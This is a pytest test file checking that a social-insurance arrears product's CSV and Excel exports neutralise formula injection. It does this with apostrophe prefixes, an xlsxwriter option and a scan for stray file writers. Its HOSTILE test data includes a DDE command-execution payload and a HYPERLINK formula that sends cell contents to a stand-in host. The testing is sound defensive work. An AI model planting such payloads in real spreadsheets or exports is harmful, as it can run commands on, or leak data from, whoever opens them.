"""Exports safe to open in Excel: every CSV and XLSX the product writes goes through foundation.exports.

A person named ``=cmd|' /C calc'!A0`` must arrive in the spreadsheet as the text the clerk typed,
never as a formula; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashboards import ui
from foundation import exports
from shebao import cli, queries

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
]
SAFE = ["张伟", "苏州甲科技有限公司", "3205**********9916", "", "1+1=2"]


def _frame() -> pd.DataFrame:
    names = HOSTILE + SAFE
    return pd.DataFrame(
        {
            "姓名": names,
            "欠费金额": [Decimal("-12.30")] + [Decimal("1234567.80")] * (len(names) - 1),
            "逾期天数": [-3] + [133] * (len(names) - 1),
            "到账日期": [dt.date(2024, 6, 12)] * len(names),
        }
    )


def test_safe_text_rule():
    for text in HOSTILE:
        assert exports.safe_text(text) == "'" + text
    for text in SAFE:
        assert exports.safe_text(text) == text
    assert exports.safe_cell(Decimal("-12.30")) == Decimal("-12.30")  # a number is never prefixed
    assert exports.safe_cell(-3) == -3 and exports.safe_cell(None) is None


def test_dashboard_xlsx_cells_are_text_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(ui._xlsx(_frame(), ["欠费金额"])))
    sheet = book["数据"]
    header = [c.value for c in sheet[1]]
    assert header == ["姓名", "欠费金额", "逾期天数", "到账日期"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # a CR is stored as the OOXML escape _x000D_, which Excel reads back as CR (openpyxl does not)
    expected = ["'" + t.replace("\r", "_x000D_") for t in HOSTILE] + SAFE[:3] + [None] + SAFE[4:]  # empty: no cell
    assert [c.value for c in cells] == expected
    for c in cells[: len(HOSTILE)]:
        assert c.data_type == "s", (c.value, c.data_type)  # a string, never "f" (formula)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    amount, days = sheet.cell(row=2, column=2), sheet.cell(row=2, column=3)
    assert (amount.data_type, amount.value, amount.number_format) == ("n", -12.3, "#,##0.00")
    assert (days.data_type, days.value) == ("n", -3)
    assert sheet.cell(row=3, column=2).value == 1234567.8


def test_xlsxwriter_is_told_never_to_write_formulas():
    """Without the safe prefix, the workbook option alone keeps a formula-looking string a string."""
    df = pd.DataFrame({"姓名": ["=1+1"], "金额": [Decimal("-5.00")]})
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="xlsxwriter", engine_kwargs={"options": exports.XLSX_OPTIONS}) as writer:
        df.to_excel(writer, index=False)
    cell = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active["A2"]
    assert (cell.data_type, cell.value) == ("s", "=1+1")
    # the negative control: pandas' default xlsxwriter turns the same string into a formula
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="xlsxwriter") as writer:
        df.to_excel(writer, index=False)
    assert openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active["A2"].data_type == "f"


def test_dashboard_csv_prefixes_text_and_keeps_numbers():
    raw = exports.csv_bytes(_frame())
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Chinese Excel opens UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["姓名", "欠费金额", "逾期天数", "到账日期"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE] + SAFE
    assert rows[1][1:] == ["-12.30", "-3", "2024-06-12"]  # numbers unprefixed, exact to the fen


def test_query_csv_neutralises_a_hostile_unit_name(tmp_path, capsys):
    """`shebao query arrears --format csv` on a serving copy whose unit is named like a formula."""
    import duckdb

    con = duckdb.connect(str(tmp_path / "serving.duckdb"))
    con.execute("create schema marts; create schema reference; create schema meta")
    con.execute("create table marts.dim_units as select 'U1' as unit_id, '=cmd|'' /C calc''!A0' as unit_name")
    con.execute("""create table marts.fct_arrears as select 'U1' as unit_id, '201105' as fee_period,
                   '110' as insurance_type, 1000.00::decimal(18,2) as amount_due, 0.00::decimal(18,2) as amount_paid,
                   1000.00::decimal(18,2) as outstanding, date '2011-05-31' as due_date, 40 as days_overdue,
                   -5.00::decimal(18,2) as late_fee_on_owed, 0.00::decimal(18,2) as late_fee_on_paid_late,
                   date '2011-07-10' as as_of_date""")
    con.execute("""create table marts.rpt_unit_arrears as select 'U1' as unit_id, true as is_owing,
                   1000.00::decimal(18,2) as outstanding, -5.00::decimal(18,2) as late_fee_on_owed,
                   0.00::decimal(18,2) as late_fee_on_paid_late""")
    con.execute("create table reference.insurance_types as select '110' as insurance_type, '养老保险' as insurance_name")
    con.execute("create table meta.build_info as select now() as published_at, date '2011-07-10' as as_of")
    con.close()
    code = cli.main(["query", "arrears", "--format", "csv", "--warehouse", str(tmp_path / "warehouse.duckdb")])
    out, err = capsys.readouterr()
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["单位名称"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["欠费滞纳金"] == "-5.00"  # a negative number stays a number


def test_query_render_csv_rule():
    result = queries.Result(
        title=None,
        columns=[("name", "姓名"), ("amount", "金额")],
        rows=[{"name": "@SUM(A1)", "amount": Decimal("-1.00")}, {"name": "-2", "amount": Decimal("3.50")}],
    )
    out = io.StringIO()
    queries.render(result, "csv", out)
    assert out.getvalue() == "姓名,金额\n'@SUM(A1),-1.00\n'-2,3.50\n"


def test_audit_export_neutralises_actor_and_subject(tmp_path, monkeypatch, capsys):
    from certificates.audit import AuditLog

    monkeypatch.setenv("SHEBAO_AUDIT_DIR", str(tmp_path / "audit"))
    AuditLog().append("login_failed", "=cmd|' /C calc'!A0", "+U001", reason="@x")
    out = tmp_path / "audit.csv"
    assert cli.main(["audit", "export", "--out", str(out)]) == 0
    capsys.readouterr()
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"))))
    assert rows[0]["actor"] == "'=cmd|' /C calc'!A0" and rows[0]["subject"] == "'+U001"
    assert rows[0]["seq"] == "1"


WRITERS = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|ExcelWriter\(|xlsxwriter\.Workbook\(")
# the generator writes landing files (input fixtures as an agency would send them), not user exports
NOT_EXPORTS = {"foundation/exports.py", "shebao/generate/writers.py"}


def test_every_writer_goes_through_foundation_exports():
    found = []
    for package in ("foundation", "shebao", "pipelines", "dashboards", "certificates", "expectations"):
        for path in (ROOT / package).rglob("*.py"):
            rel = path.relative_to(ROOT).as_posix()
            if rel not in NOT_EXPORTS and WRITERS.search(path.read_text("utf-8")):
                found.append(rel)
    assert found == []
